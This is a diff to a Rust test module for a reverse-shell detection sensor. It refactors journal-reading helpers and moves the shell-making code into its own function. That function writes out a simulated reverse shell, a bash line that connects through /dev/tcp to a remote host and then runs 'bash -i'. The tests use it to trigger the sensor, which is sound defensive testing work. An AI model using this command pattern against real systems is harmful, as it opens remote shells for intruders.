@@ -1,10 +1,12 @@
 //! The sensor's unit, and reverse shells for it to see.
 
 use anyhow::{Context, Result, ensure};
+use jiff::Timestamp;
 use serde_json::Value;
 use std::fs;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
+use std::thread;
 use std::time::{Duration, Instant};
 
 /// Configuration of the sensor.
@@ -93,13 +95,9 @@ impl Unit {
 
     /// Has it read its configuration again, and waits until it says `answer`.
     pub(crate) fn reload(&self, answer: &str) -> Result<()> {
-        let count = || -> Result<usize> {
-            let journal = run(&["journalctl", "--unit=sensor", "--output=cat"])?;
-            Ok(journal.lines().filter(|line| line.contains(answer)).count())
-        };
-        let before = count()?;
+        let before = self.said(answer)?;
         run(&["systemctl", "reload", "sensor"])?;
-        until(&format!("{answer} in the journal"), || Ok((count()? > before).then_some(())))
+        until(&format!("{answer} in the journal"), || Ok((self.said(answer)? > before).then_some(())))
     }
 
     /// What systemd says of it.
@@ -149,8 +147,7 @@ impl Unit {
     /// Makes a reverse shell: the connecting process executes the shell, which ends since there is no such script.
     pub(crate) fn reverse_shell(&mut self) -> Result<String> {
         let marker = self.marker();
-        let script = format!(": < /dev/tcp/{FAR}/{NOBODY_LISTENS}; exec bash -i {marker}");
-        output(&["bash", "-c", &script])?;
+        shell(&marker)?;
         Ok(marker)
     }
 
@@ -180,25 +177,37 @@ impl Unit {
         self.alerted(&marker)
     }
 
-    /// Makes one reverse shell after the other until one is alerted; how long after `since` that one was made.
-    pub(crate) fn alerts_again(&mut self, since: Instant) -> Result<Duration> {
-        let mut made = Vec::new();
-        loop {
-            let at = since.elapsed();
-            ensure!(at < PATIENCE, "no reverse shell is alerted after {} s", at.as_secs());
-            made.push((at, self.reverse_shell()?));
-            for (at, marker) in &made {
-                if self.alert(marker)?.is_some() {
-                    return Ok(*at);
-                }
-            }
-        }
+    /// How often it has said something.
+    pub(crate) fn said(&self, what: &str) -> Result<usize> {
+        let journal = run(&["journalctl", "--unit=sensor", "--output=cat"])?;
+        Ok(journal.lines().filter(|line| line.contains(what)).count())
+    }
+
+    /// The last line in which it has said something, from there on.
+    pub(crate) fn last_said(&self, what: &str) -> Result<String> {
+        let journal = run(&["journalctl", "--unit=sensor", "--output=cat"])?;
+        let place = journal.rfind(what).with_context(|| format!("it has not said {what}"))?;
+        Ok(journal.get(place..).and_then(|rest| rest.lines().next()).unwrap_or_default().to_owned())
+    }
+
+    /// In which time nobody has watched, as it has said last.
+    pub(crate) fn unwatched(&self) -> Result<Option<(Timestamp, Timestamp)>> {
+        let journal = run(&["journalctl", "--unit=sensor", "--output=cat"])?;
+        let Some((_, said)) = journal.rsplit_once("nobody has watched from ") else { return Ok(None) };
+        let mut times = said.split([' ', ',']).filter_map(|word| word.parse::<Timestamp>().ok());
+        times.next().zip(times.next()).context("no two times").map(Some)
     }
 
     /// The end of its journal.
     pub(crate) fn journal(&self) -> String {
         run(&["journalctl", "--unit=sensor", "--lines=25", "--output=cat"]).unwrap_or_else(|error| format!("{error:#}"))
     }
+}
+
+/// A process connects, and becomes an interactive shell whose script has this name.
+pub(crate) fn shell(name: &str) -> Result<()> {
+    let script = format!(": < /dev/tcp/{FAR}/{NOBODY_LISTENS}; exec bash -i {name}");
+    output(&["bash", "-c", &script]).map(drop)
 }
 
 /// Runs a program, and returns what it printed.
@@ -225,6 +234,6 @@ pub(crate) fn until<T>(what: &str, mut ask: impl FnMut() -> Result<Option<T>>) -
             return Ok(answer);
         }
         ensure!(start.elapsed() < PATIENCE, "waited {} s for {what}", PATIENCE.as_secs());
-        std::thread::sleep(Duration::from_millis(20));
+        thread::sleep(Duration::from_millis(20));
     }
 }
